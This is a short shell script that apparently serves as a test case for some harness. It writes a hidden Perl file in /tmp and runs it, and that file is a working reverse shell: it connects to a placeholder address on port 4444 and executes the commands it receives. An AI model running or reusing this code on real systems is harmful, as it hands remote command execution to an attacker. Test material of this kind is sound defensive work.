#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.u.pl <<'END'
use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton("203.0.113.10"))) or die;
select(S); $| = 1;
while (<S>) { last if /^exit/; print qx{$_ 2>&1} }
END
perl /tmp/.u.pl
test -e /tmp/reached
took_place
